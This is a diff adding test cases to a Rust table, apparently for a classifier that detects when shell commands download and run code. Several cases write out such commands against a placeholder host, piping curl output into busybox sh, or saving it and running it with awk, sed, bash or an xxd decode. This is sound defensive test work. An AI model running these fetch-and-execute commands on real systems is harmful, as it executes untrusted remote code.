@@ -335,6 +335,11 @@ const CASES: &[(&str, &str)] = &[
     ("curl -s http://x > f; xxd -r f g; bash g", "0057"),
     ("tar xzf local.tgz; ./configure", "0007"),
     ("echo true > f; exec 3<f; source /dev/fd/3", "0007"),
+    ("curl -s http://x > f; awk -f f", "0056"),
+    ("curl -s http://x > f; sed -f f x", "0056"),
+    ("curl -s http://x > f; mkdir d; ln f d; bash d/f", "0057"),
+    ("curl -s http://x | busybox sh", "0050"),
+    ("echo '{print}' > p.awk; awk -f p.awk x", "0006"),
     // (arithmetic on fetched text is not taken as running it: see ARCHITECTURE.md)
     ("v=$(curl -s https://x/y); echo $((v+1))", "0044"),
     ("code=$(curl -s -o /dev/null -w '%{http_code}' https://x/y); (( code >= 400 )) && exit 1", "0044"),
